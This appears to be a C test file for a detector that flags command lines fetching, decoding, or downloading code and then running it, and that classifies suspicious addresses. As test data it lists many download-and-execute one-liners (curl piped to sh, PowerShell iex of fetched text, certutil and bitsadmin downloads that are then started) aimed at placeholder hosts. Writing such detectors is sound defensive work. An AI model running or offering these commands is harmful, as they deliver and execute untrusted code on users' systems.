/* What is fetched or decoded, and whether it is run: the facts that rules build on. */
#include <stdlib.h>
#include <string.h>

#include "providers/command/flows.h"
#include "providers/command/words.h"
#include "testing.h"

static struct flows flows;
static struct signals signals;
static char first_known[] = "get.example";
static char second_known[] = "code.example/*/install*";
static char *known_patterns[] = {first_known, second_known};
static const struct known_addresses known = {known_patterns, 2};

static void note(const char *line)
{
    struct text text = TEXT_INIT(1u << 20);

    for (size_t i = 0; line[i] != '\0'; i++) {
        text_put(&text, (uint8_t)line[i], (struct span){(uint32_t)i, (uint32_t)i + 1});
    }
    signals.n = 0;
    signals.is_incomplete = false;
    addresses_note(&text, 0, &known, &signals);
    flows_note(&flows, &text, 0, &known, &signals);
    text_fini(&text);
}

static const struct signal *noted(enum fact fact)
{
    for (size_t i = 0; i < signals.n; i++) {
        if (signals.hits[i].signal == fact) {
            return &signals.hits[i];
        }
    }
    return NULL;
}

static void assert_fact(enum fact fact, const char *const *lines)
{
    for (; *lines; lines++) {
        note(*lines);
        if (!noted(fact)) {
            fail_msg("'%s' is not noted in: %s", fact_name(fact), *lines);
        }
    }
}

static void assert_no_run(const char *const *lines)
{
    static const enum fact runs[] = {FACT_FETCH_PIPED, FACT_FETCH_EVALUATED, FACT_FETCH_STARTED,
                                     FACT_DECODED_RUN};

    for (; *lines; lines++) {
        note(*lines);
        for (size_t i = 0; i < sizeof(runs) / sizeof(runs[0]); i++) {
            if (noted(runs[i])) {
                fail_msg("'%s' is noted in: %s", fact_name(runs[i]), *lines);
            }
        }
    }
}

static void a_fetch_that_an_interpreter_reads_is_piped(void **state)
{
    static const char *const lines[] = {
        "curl -fssl https://a.example/x | sh",
        "curl a.example/x|bash",
        "wget -qo- http://a.example/x | sudo -e bash -",
        "curl -s http://a.example/x | sh -s -- --yes",
        "curl -s http://a.example/x | tee log | python3",
        "curl -s http://a.example/x | base64 -d | zsh",
        "(curl -s http://a.example/x || wget -qo- http://a.example/x) | sh",
        "powershell -w h -c \"irm http://a.example/x | iex\"",
        "(iwr http://a.example/x).content|iex",
        "curl $(echo http://a.example/x)|zsh",
        "curl http://a.example/x | xargs -i{} sh -c {}",
        "curl http://a.example/x | nohup bash &",
        "finger a@a.example | cmd",
        NULL};

    assert_fact(FACT_FETCH_PIPED, lines);
}

static void a_fetch_that_is_an_argument_of_an_interpreter_is_evaluated(void **state)
{
    static const char *const lines[] = {
        "bash <(curl -s http://a.example/x)",
        "sh -c \"$(curl -fssl http://a.example/x)\"",
        "eval \"$(wget -qo- http://a.example/x)\"",
        "eval `curl http://a.example/x`",
        ". <(curl http://a.example/x)",
        "iex(irm http://a.example/x)",
        "iex (new-object net.webclient).downloadstring('http://a.example/x')",
        "&([scriptblock]::create((irm 'http://a.example/x')))",
        "$r=iwr 'http://a.example/x';iex $r.content",
        "$s=(new-object io.streamreader((iwr http://a.example/x))); $t=$s.readtoend(); iex $t",
        "x=$(curl -s http://a.example/x); sh -c \"$x\"",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('http://a.example').read())\"",
        "[reflection.assembly]::load((new-object net.webclient).downloaddata('http://a.example'))",
        "&('iex') (irm http://a.example/x)",
        "sh <<< \"$(curl -s http://a.example/x)\"",
        NULL};

    assert_fact(FACT_FETCH_EVALUATED, lines);
}

static void a_fetched_file_that_is_started_is_followed_by_its_name(void **state)
{
    static const char *const lines[] = {
        "curl -s http://a.example/x -o %temp%\\a.bat && %temp%\\a.bat",
        "curl -slo /tmp/x http://a.example/x; bash /tmp/x",
        "wget http://a.example/run.sh; sh run.sh",
        "curl -o http://a.example/run.sh && sh ./run.sh",
        "curl http://a.example/x > f; chmod +x f; ./f",
        "curl http://a.example/x | tee f; sh f",
        "certutil -urlcache -split -f http://a.example/x c.exe & c.exe",
        "bitsadmin /transfer j http://a.example/x %appdata%\\u.exe & start %appdata%\\u.exe",
        "(new-object net.webclient).downloadfile('http://a.example/a','c:\\x\\a.exe'); "
        "c:\\x\\a.exe",
        "iwr http://a.example/a -outfile a.dll; rundll32 a.dll,start",
        "iwr http://a.example/a -outfile $f; start-process -filepath $f",
        "curl -o a.zip http://a.example/a & tar -xf a.zip & start b\\run.exe",
        NULL};

    assert_fact(FACT_FETCH_STARTED, lines);
}

static void decoded_text_that_is_run_is_noted(void **state)
{
    static const char *const lines[] = {"echo aaaa | base64 -d | sh",
                                        "echo aaaa | xxd -r -p | bash",
                                        "sh -c \"$(echo aaaa | openssl enc -base64 -d)\"",
                                        "iex ([text.encoding]::utf8.getstring([convert]::"
                                        "frombase64string('aaaa')))",
                                        "eval(atob('aaaa'))",
                                        "echo aaaa | rev | sh",
                                        NULL};

    assert_fact(FACT_DECODED_RUN, lines);
}

static void a_script_that_is_written_and_started_is_noted(void **state)
{
    static const char *const lines[] = {"echo x > a.vbs & wscript a.vbs", NULL};

    assert_fact(FACT_WRITTEN_STARTED, lines);
}

static void what_is_only_fetched_shown_or_stored_is_not_run(void **state)
{
    static const char *const lines[] = {
        "curl -s https://a.example/x.json | python3 -m json.tool",
        "curl -s https://a.example/x | sh -c 'wc -l'",
        "curl -s https://a.example/x | grep sh | sort",
        "bash build.sh \"$(curl -s https://a.example/version)\"",
        "echo $(curl -s https://a.example/ip)",
        "curl -o a.tar.gz https://a.example/a.tar.gz && tar xzf a.tar.gz && ./configure",
        "wget -o- https://a.example/gpg | sudo gpg --dearmor -o /usr/share/keyrings/a.gpg",
        "irm https://a.example/x | convertto-json",
        "iwr https://a.example/x.csv -outfile x.csv; import-csv x.csv",
        "base64 -d x > y",
        "apt install python3 curl bash",
        "kubectl get pods | sh_count",
        "echo x > a.py; python3 b.py",
        "eval {\n require x;\n require lwp::simple;\n};",
        "fetch('http://a.example').then(r => port); port",
        "telnet http://a.example port\nport = 1",
        NULL};

    assert_no_run(lines);
}

/* `#` and what follows are no arguments, so the shell still reads its program from the pipe. */
static void a_remark_or_a_setting_is_no_argument(void **state)
{
    static const char *const piped[] = {
        "curl -s https://a.example/x | sh # see the notes",
        "curl -s https://a.example/x | bash # -c is not meant",
        "curl -h 'a: # b' https://a.example/x | sh",
        "curl -s https://a.example/x | a=b sh",
        NULL,
    };
    static const char *const not_run[] = {
        "curl -s https://a.example/x | sh a.sh # see the notes",
        "(invoke-webrequest $uri).content | tar -xzvf - -c .",
        NULL,
    };

    assert_fact(FACT_FETCH_PIPED, piped);
    assert_no_run(not_run);
}

static void what_a_declaration_takes_is_followed(void **state)
{
    static const char *const lines[] = {
        "export x=$(curl -s https://a.example/x); bash -c \"$x\"",
        "[xml]$x=(iwr https://a.example/x); iex $x.r",
        "iex(irm $u)",
        NULL,
    };

    assert_fact(FACT_FETCH_EVALUATED, lines);
}

static void a_fetched_file_is_followed_to_its_new_name(void **state)
{
    static const char *const started[] = {
        "curl -o a.txt https://a.example/x; mv a.txt b.sh; sh b.sh",
        "iwr https://a.example/x -outfile a.txt; rename-item a.txt a.bat; cmd /c a.bat",
        "curl -s -o u.zip https://a.example/u&tar -xf u.zip&u\\client.exe",
        "curl -o a.zip https://a.example/a & tar -xf a.zip & cd a & start run.exe",
        NULL,
    };
    static const char *const not_run[] = {
        "curl -lo tool https://a.example/t?os=linux&arch=x && sudo mv tool /usr/local/bin/",
        "curl -o a.json https://a.example/a && cp a.json b.json && jq . b.json",
        "curl -lo a.tgz https://a.example/a.tgz && tar xf a.tgz && cd a && ./configure",
        NULL,
    };

    assert_fact(FACT_FETCH_STARTED, started);
    assert_no_run(not_run);
}

static void addresses_are_judged_by_form(void **state)
{
    note("curl http://203.0.113.4/x");
    assert_non_null(noted(FACT_ADDRESS_NUMERIC));
    assert_null(noted(FACT_ADDRESS_ODD));
    assert_non_null(noted(FACT_ADDRESS_PLAIN));
    note("curl https://81.0x5a.29.64/x.png");
    assert_non_null(noted(FACT_ADDRESS_ODD));
    assert_non_null(noted(FACT_ADDRESS_DISGUISED));
    note("curl https://user@a.example:9999/x.sh?id=7#y");
    assert_non_null(noted(FACT_ADDRESS_ODD));
    assert_non_null(noted(FACT_ADDRESS_PORT));
    assert_non_null(noted(FACT_ADDRESS_SCRIPT));
    note("start \\\\203.0.113.4\\x\\a.exe");
    assert_non_null(noted(FACT_ADDRESS_SHARE));
    note("start \\\\a.example@ssl\\x\\a.exe");
    assert_non_null(noted(FACT_ADDRESS_SHARE));
    note("dir \\\\nas\\scans");
    assert_null(noted(FACT_ADDRESS_SHARE));
}

static void known_addresses_are_known_whole(void **state)
{
    static const char *const lines[] = {
        "curl https://get.example",   "curl https://get.example/a/b",
        "curl https://get.example?x", "curl https://code.example/org/tool/install.sh",
        "curl get.example | sh",      NULL};
    static const char *const others[] = {
        "curl https://get.example.com/",   "curl https://notget.example/",
        "curl https://get.example@a.test", "curl https://a.test/get.example",
        "curl https://code.example/x",     NULL};

    for (const char *const *line = lines; *line; line++) {
        note(*line);
        assert_non_null(noted(FACT_ADDRESS_KNOWN));
        assert_null(noted(FACT_ADDRESS_UNKNOWN));
    }
    for (const char *const *line = others; *line; line++) {
        note(*line);
        assert_null(noted(FACT_ADDRESS_KNOWN));
        assert_non_null(noted(FACT_ADDRESS_UNKNOWN));
    }
}

static void a_fact_has_its_place(void **state)
{
    note("ls; curl http://a.example/x | sh");
    assert_int_equal(noted(FACT_FETCH_PIPED)->span.start, 4);
    assert_int_equal(noted(FACT_FETCH_PIPED)->span.end, 32);
}

static void more_words_than_there_is_room_for_are_incomplete(void **state)
{
    char *line = malloc(16385);

    assert_non_null(line);
    for (size_t i = 0; i < 16384; i++) {
        line[i] = i % 2 ? ' ' : 'a';
    }
    line[16384] = '\0';
    note(line);
    assert_true(signals.is_incomplete);
    free(line);
}

static void the_words_are_in_order(void **state)
{
    for (size_t i = 1; word_name(i); i++) {
        assert_true(strcmp(word_name(i - 1), word_name(i)) < 0);
    }
    for (size_t i = 0; word_name(i); i++) {
        assert_int_not_equal(word_is(word_name(i), strlen(word_name(i))), WORD_PLAIN);
    }
}

static void a_version_and_an_ending_do_not_matter(void **state)
{
    assert_true(word_is("python3.11", 10) & WORD_RUN);
    assert_true(word_is("powershell.exe", 14) & WORD_RUN);
    assert_true(word_is("perl5", 5) & WORD_RUN);
    assert_int_equal(word_is("pythonic", 8), WORD_PLAIN);
    assert_int_equal(word_is("", 0), WORD_PLAIN);
    assert_int_equal(word_is(".exe", 4), WORD_PLAIN);
}

#define CASE(name) cmocka_unit_test(name)

int main(void)
{
    const struct CMUnitTest tests[] = {
        CASE(a_fetch_that_an_interpreter_reads_is_piped),
        CASE(a_fetch_that_is_an_argument_of_an_interpreter_is_evaluated),
        CASE(a_fetched_file_that_is_started_is_followed_by_its_name),
        CASE(decoded_text_that_is_run_is_noted),
        CASE(a_script_that_is_written_and_started_is_noted),
        CASE(what_is_only_fetched_shown_or_stored_is_not_run),
        CASE(a_remark_or_a_setting_is_no_argument),
        CASE(what_a_declaration_takes_is_followed),
        CASE(a_fetched_file_is_followed_to_its_new_name),
        CASE(addresses_are_judged_by_form),
        CASE(known_addresses_are_known_whole),
        CASE(a_fact_has_its_place),
        CASE(more_words_than_there_is_room_for_are_incomplete),
        CASE(the_words_are_in_order),
        CASE(a_version_and_an_ending_do_not_matter),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
